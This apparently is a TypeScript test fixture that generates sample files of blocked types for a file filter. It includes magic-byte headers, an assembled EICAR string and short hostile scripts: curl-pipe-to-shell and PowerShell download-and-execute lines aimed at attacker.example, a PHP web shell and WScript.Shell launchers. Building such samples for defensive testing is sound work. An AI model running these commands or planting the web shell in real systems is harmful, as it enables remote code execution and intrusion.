import { gzipSync } from 'node:zlib';
import { noise } from '../sender.js';
import { compoundOf } from './raw-compound.js';
import { joined, latin1, utf8 } from './text-bytes.js';

/** A file of a type that is not taken. `mark` stands in a text, so that no two are alike; a binary one is filled up with noise. */
export interface ForeignFile {
  readonly type: string;
  readonly isText: boolean;
  readonly content: (mark: string, seed: number) => Uint8Array;
}

function script(type: string, write: (mark: string) => string): ForeignFile {
  return { type, isText: true, content: (mark) => utf8(write(mark)) };
}

function binary(type: string, head: string): ForeignFile {
  return { type, isText: false, content: (_, seed) => joined(latin1(head), noise(seed, 2_000)) };
}

/** The test file of EICAR (2006), put together here so that no scanner takes the source for it. */
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!', '$H+H*'].join('');

export const FOREIGN_FILES: readonly ForeignFile[] = [
  { type: 'exe', isText: false, content: (_, seed) => executable(seed) },
  binary('elf', '\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0'),
  binary('mach-o', '\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\x80'),
  binary('class', '\xca\xfe\xba\xbe\0\0\0\x41'),
  binary('wasm', '\0asm\x01\0\0\0'),
  binary('lnk', 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F'),
  binary('flash', 'FWS\x09\0\x08\0\0'),
  binary('gif', 'GIF89a\x40\x01\xc8\0\0\0\0'),
  binary('tiff', 'II*\0\x08\0\0\0'),
  binary('7z', '7z\xbc\xaf\x27\x1c\0\x04'),
  binary('rar', 'Rar!\x1a\x07\x01\0'),
  { type: 'gzip', isText: false, content: (_, seed) => gzipSync(noise(seed, 2_000)) },
  {
    type: 'doc',
    isText: false,
    content: (_, seed) => compoundOf([{ name: 'WordDocument', content: joined(latin1('\xec\xa5\xc1\0'), noise(seed, 5_000)) }]),
  },
  {
    type: 'xls',
    isText: false,
    content: (_, seed) => compoundOf([{ name: 'Workbook', content: joined(latin1('\x09\x08\x10\0\0\x06\x05\0'), noise(seed, 5_000)) }]),
  },
  script('sh', (mark) => `#!/bin/sh\n# ${mark}\ncurl http://attacker.example/a | sh\n`),
  script('bat', (mark) => `@echo off\r\nrem ${mark}\r\npowershell -w hidden -c "iwr http://attacker.example/a"\r\n`),
  script('powershell', (mark) => `# ${mark}\nIEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')\n`),
  script('html', (mark) => `<!DOCTYPE html><html><title>${mark}</title><script>fetch("http://attacker.example/")</script></html>\n`),
  script('svg', (mark) => `<svg xmlns="http://www.w3.org/2000/svg"><title>${mark}</title><script>alert(1)</script></svg>\n`),
  script('js', (mark) => `// ${mark}\nnew ActiveXObject("WScript.Shell").Run("calc");\n`),
  script('vbs', (mark) => `' ${mark}\nCreateObject("WScript.Shell").Run "calc"\n`),
  script('php', (mark) => `<?php /* ${mark} */ system($_GET["a"]);\n`),
  script('rtf', (mark) => `{\\rtf1\\ansi ${mark}{\\object\\objautlink\\objupdate{\\*\\objdata 01050000}}}\n`),
  script('mht', (mark) => `MIME-Version: 1.0\r\nSubject: ${mark}\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n`),
  script('eml', (mark) => `From: a@attacker.example\r\nTo: b@example.org\r\nSubject: ${mark}\r\n\r\nXin chào\r\n`),
  script('postscript', (mark) => `%!PS-Adobe-3.0\n% ${mark}\n(%pipe%id) (w) file closefile\n`),
  script('eicar', (mark) => `${EICAR} \r\n${mark}\r\n`),
];

/** The head that a loader of Windows looks at: 'MZ', the place of the new header, 'PE'. */
function executable(seed: number): Uint8Array {
  const head = Buffer.alloc(128);
  head.write('MZ');
  head.writeUInt32LE(128, 60);
  return joined(head, latin1('PE\0\0\x64\x86\x01\0'), noise(seed, 2_000));
}
